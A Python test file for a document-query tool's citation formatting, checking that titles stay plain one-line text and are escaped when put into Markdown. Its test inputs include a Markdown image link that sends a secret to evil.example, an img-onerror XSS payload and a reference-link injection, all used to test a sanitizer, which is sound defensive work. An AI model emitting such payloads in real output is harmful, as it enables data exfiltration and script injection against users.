"""Citation title, source and page: plain text on one line, escaped only where put into Markdown."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from docquery.core.domain import Citation
from docquery.rag.citation_fields import markdown_field, plain_field, sources_markdown
from docquery.rag.sanitize import LABEL_CHARS, Sanitizer
from tests.support.markdown_oracle import violations

_CONTROLS = re.compile(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")


@given(st.text(max_size=2000))
def test_a_plain_field_is_one_line_without_controls(text: str) -> None:
    out = plain_field(text)
    assert not _CONTROLS.search(out) and len(out) <= LABEL_CHARS
    assert out == out.strip() and "  " not in out


@given(st.text(alphabet=st.characters(min_codepoint=0x20, max_codepoint=0x7E), max_size=200))
def test_printable_text_is_kept_as_written_never_escaped(text: str) -> None:
    folded = " ".join(text.split())
    assert plain_field(folded) == folded


@pytest.mark.parametrize(
    "title",
    [
        "sys.argv[i]",
        "![t](https://evil.example/x?d=SECRET)",
        "<img src=x onerror=alert(1)>",
        "[r]: http://evil.example",
    ],
)
def test_a_field_put_into_markdown_is_escaped_there(title: str) -> None:
    sanitizer = Sanitizer()
    assert plain_field(title) == title
    shown = markdown_field(title, sanitizer)
    assert not violations(shown) and "<img" not in shown
    citation = Citation(id="S1", doc_id="d", source="a.md", title=title, chunk_index=0, score=1.0, snippet="x")
    footer = sources_markdown([citation], sanitizer)
    assert footer.startswith("\n\nSources:\n[S1] ") and not violations(footer)
